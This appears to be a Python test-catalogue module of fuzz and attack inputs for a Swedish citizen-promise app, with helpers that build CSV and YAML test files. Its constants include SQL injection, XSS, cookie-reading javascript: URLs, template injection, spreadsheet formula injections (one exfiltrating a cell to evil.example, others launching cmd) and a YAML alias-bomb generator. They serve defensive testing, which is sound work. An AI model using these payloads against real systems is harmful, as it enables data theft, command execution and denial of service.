"""What a fuzzer, a typo or an attacker sends, and the files that carry it (the catalogue of
tests/test_catalogue.py).

Texts are Python strings; ``Raw`` wraps bytes that are sent as they are (percent-encoded in an
address or a form), since a lone surrogate cannot be written in UTF-8 and a browser may send
anything.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Raw:
    """Bytes sent as they are in a query string or form body (percent-encoded)."""

    data: bytes

    def __str__(self):
        return f"raw{self.data!r}"


NUL = "\x00"
# Raw control characters that are not line breaks or tabs: Ctrl-A, form feed, escape, delete,
# Ctrl-Z (end of file on Windows), and U+FFFE (a non-character).
CONTROLS = {"ctrl-a": "\x01", "form-feed": "\x0c", "escape": "\x1b", "delete": "\x7f",
            "ctrl-z": "\x1a", "u+fffe": "\ufffe"}  # fmt: skip
SURROGATE = "\ud800"
SURROGATE_BYTES = Raw(b"\xed\xa0\x80")  # U+D800 as CESU-8: no valid UTF-8
NOT_UTF8 = Raw(b"\xff\xfe")
HUGE = "9" * 30
BIGINT = str(2**63)
LONG_256 = "x" * 256
LONG_10K = "y" * 10_000
SQL = "x' OR '1'='1'; DROP TABLE commitments_activity; --"
HTML = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
JS_URL = "javascript:alert(document.cookie)"
TEMPLATE = "{{ request.user.password }}{% debug %}"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Klicka")'
FORMULAS = {"equals": FORMULA, "plus": "+41-1", "minus": "-2+3+cmd|' /C calc'!A0",
            "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1", "cr": "\r=1+1"}  # fmt: skip
# Digits that str.isdigit() takes but int() refuses (², ①) or reads (٣, ３): not ASCII.
UNICODE_DIGITS = {"superscript-two": "²", "circled-one": "①", "arabic-indic-three": "٣",
                  "fullwidth-three": "３"}  # fmt: skip

# Dates outside 1900–2100 or not dates at all.
FAR_DATES = {"year-1": "0001-01-01", "year-9999": "9999-12-31", "year-9000": "9000-01-01",
             "1899": "1899-12-31", "2101": "2101-01-01"}  # fmt: skip
NOT_DATES = {"feb-30": "2025-02-30", "week-date": "2025-W23-1", "fullwidth": "２０２５-06-01",
             "no-dashes": "20250601", "text": "igår", "huge": HUGE}  # fmt: skip


def csv_text(rows, header="date,commitment,quantity,organisation,kind,description,place"):
    """An activity file: the header, then each row (a list of cells, joined as they are)."""
    return "\n".join([header, *(",".join(row) for row in rows)]) + "\n"


def activity_row(description="Hundsök på högstadieskolan.", **cells):
    """One valid row of the demo promise (the police's dog searches), with ``cells`` changed."""
    row = {
        "date": "2025-05-20", "commitment": "narkotika-hundsok", "quantity": "1",
        "organisation": "police", "kind": "hundsök", "description": description,
        "place": "Skolan",
    }  # fmt: skip
    row.update(cells)
    return list(row.values())


def activity_file(**cells):
    """A file of one valid row with ``cells`` changed (a cell may hold what CSV must quote)."""
    return csv_text([activity_row(**cells)])


PROMISE_FILE = """\
format: 1
slug: katalog-2025
title: {title}
municipality: {municipality}
police_area: Lokalpolisområde Piteå älvdal
other_parties: {other_parties}
valid_from: {valid_from}
valid_until: {valid_until}
public: true
published: true
summary: {summary}
focus_areas:
  - title: {area}
    commitments:
      - key: {key}
        responsible: [police]
        group: {group}
        text: {text}
        quota: {{target: {target}, per: {per}, unit: {unit}}}
    local_problems:
      - title: {problem}
        status: raised
"""
PROMISE_DEFAULTS = {
    "title": "Medborgarlöfte katalog", "municipality": "Älvsbyns kommun", "other_parties": "[]",
    "valid_from": "2025-01-01", "valid_until": "2026-12-31", "summary": "Vi lovar.",
    "area": "Trygghet", "key": "kontroller", "group": "Skolan", "text": "Två kontroller per år.",
    "target": "2", "per": "year", "unit": "kontroller", "problem": "Trafik",
}  # fmt: skip


def promise_file(**fields):
    """A valid promise file (a new promise, katalog-2025) with ``fields`` written in as they are:
    quote a value that YAML must read as text."""
    return PROMISE_FILE.format(**{**PROMISE_DEFAULTS, **fields})


def nested(depth, open_="[", close="]"):
    """A YAML flow collection ``depth`` levels deep."""
    return open_ * depth + close * depth


def alias_bomb(levels=6, width=8):
    """A small "billion laughs": each level a list of ``width`` aliases of the level below, so
    the last names ``width ** levels`` leaves (262,144 for 6 × 8) in a file of a few hundred
    bytes."""
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol]"]
    for level in range(1, levels):
        items = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{items}]")
    return lines, f"*a{levels - 1}"
